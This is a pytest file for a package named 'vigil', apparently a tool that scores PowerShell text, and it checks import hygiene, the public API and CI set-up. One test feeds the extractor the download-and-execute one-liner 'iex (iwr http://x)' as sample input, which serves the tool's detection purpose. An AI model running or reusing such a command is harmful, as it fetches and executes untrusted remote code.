"""The rules that keep the scoring path small, checked rather than written down."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest

import vigil

ROOT = Path(__file__).resolve().parents[1]
# pandas is not listed: pyarrow's own pandas shim imports it whenever it is installed.
# test_scoring_works_with_heavy_libraries_absent proves vigil never needs it.
HEAVY = ("torch", "xgboost", "sklearn", "vigil.train", "duckdb")
BLOCK_HEAVY = """
import sys
class Absent:
    def find_spec(self, name, path, target=None):
        if name.split(".")[0] in ("pandas", "torch", "sklearn", "xgboost", "duckdb"):
            raise ModuleNotFoundError(name)
        return None
sys.meta_path.insert(0, Absent())
"""


def _modules_after(statement: str) -> set[str]:
    code = f"import sys; {statement}; print('\\n'.join(sorted(sys.modules)))"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    return set(out.stdout.split())


@pytest.mark.parametrize("module", ["vigil.runtime", "vigil.store", "vigil.features"])
def test_scoring_path_imports_no_heavy_library(module: str) -> None:
    loaded = _modules_after(f"import {module}")
    assert not {m for m in loaded if m.split(".")[0] in HEAVY or m.startswith("vigil.train")}


def test_scoring_a_batch_loads_no_heavy_library() -> None:
    loaded = _modules_after(
        "from vigil.features import get_extractor; get_extractor('powershell').transform(['iex'])"
    )
    assert not {m for m in loaded if m.split(".")[0] in HEAVY}


def test_scoring_works_with_heavy_libraries_absent() -> None:
    code = BLOCK_HEAVY + (
        "import numpy as np\n"
        "from vigil.features import get_extractor\n"
        "import vigil.runtime, vigil.store\n"
        "m = get_extractor('powershell').transform(['iex (iwr http://x)', None])\n"
        "assert m.values.shape[0] == 2 and np.isfinite(m.values).all()\n"
        "print('ok')"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert out.stdout.strip() == "ok", out.stderr


def test_cli_help_imports_no_torch() -> None:
    code = (
        "import sys\nfrom typer.testing import CliRunner\nfrom vigil.cli import app\n"
        "CliRunner().invoke(app, ['--help'])\nprint('torch' in sys.modules)"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "False"


def test_public_api_matches_dunder_all() -> None:
    for name in vigil.__all__:
        assert getattr(vigil, name) is not None, name
    public = {n for n in dir(vigil) if not n.startswith("_") and n != "annotations"} | {
        n for n in vigil.__all__ if not n.startswith("__")
    }
    exported = set(vigil.__all__)
    import types

    # Subpackages become attributes once imported; they are namespaces, not API leaks.
    modules = {n for n in public if isinstance(getattr(vigil, n, None), types.ModuleType)}
    assert public - exported - modules == set()


def test_ci_runs_exactly_the_readme_test_command() -> None:
    readme = (ROOT / "README.md").read_text()
    block = re.search(r"```bash\n(.*?)```", readme, re.S)
    assert block is not None
    commands = [line for line in block.group(1).splitlines() if line.strip()]
    assert len(commands) == 2, "the README keeps exactly two set-up commands at the top"
    assert "vigil demo" in commands[0]
    assert commands[1] in (ROOT / ".ci" / "run").read_text()
